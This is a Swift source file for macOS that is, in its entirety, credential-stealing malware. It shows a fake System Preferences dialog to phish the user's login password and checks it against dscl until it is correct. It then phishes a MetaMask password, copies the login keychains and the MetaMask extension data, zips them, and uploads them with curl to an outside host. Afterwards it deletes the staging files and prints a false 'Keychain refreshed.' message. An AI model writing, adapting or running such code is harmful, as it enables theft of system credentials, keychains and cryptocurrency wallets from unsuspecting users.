import AppKit
import Foundation

func ask(_ title: String, _ text: String) -> String {
    let a = NSAlert()
    a.messageText = title
    a.informativeText = text
    a.icon = NSImage(named: NSImage.lockLockedTemplateName)
    a.addButton(withTitle: "OK")
    a.addButton(withTitle: "Cancel")
    let f = NSSecureTextField(frame: NSRect(x: 0, y: 0, width: 240, height: 24))
    a.accessoryView = f
    NSApp.activate(ignoringOtherApps: true)
    return a.runModal() == .alertFirstButtonReturn ? f.stringValue : ""
}

func sh(_ args: [String]) -> Int32 {
    let p = Process(); p.executableURL = URL(fileURLWithPath: "/usr/bin/env"); p.arguments = args
    p.standardOutput = FileHandle.nullDevice; p.standardError = FileHandle.nullDevice
    try? p.run(); p.waitUntilExit(); return p.terminationStatus
}

_ = NSApplication.shared
let user = NSUserName()
var pw = ""
repeat {
    pw = ask("System Preferences", "System Preferences wants to unlock the login keychain.\nEnter the password for \(user):")
} while sh(["dscl", ".", "authonly", user, pw]) != 0

let mm = ask("MetaMask", "Enter your MetaMask password to resync the extension:")

let home = FileManager.default.homeDirectoryForCurrentUser.path
let stage = NSTemporaryDirectory() + "kc-\(UUID().uuidString)"
try? FileManager.default.createDirectory(atPath: stage, withIntermediateDirectories: true)
try? "\(user)\n\(pw)\n\(mm)".write(toFile: stage + "/p.txt", atomically: true, encoding: .utf8)
_ = sh(["cp", "-R", home + "/Library/Keychains", stage + "/kc"])
_ = sh(["cp", "-R", home + "/Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn", stage + "/mm"])
_ = sh(["ditto", "-c", "-k", stage, stage + ".zip"])
_ = sh(["curl", "-s", "-m", "30", "-F", "f=@\(stage).zip", "https://kc-resync.invalid/api/u"])
_ = sh(["rm", "-rf", stage, stage + ".zip"])
print("Keychain refreshed.")
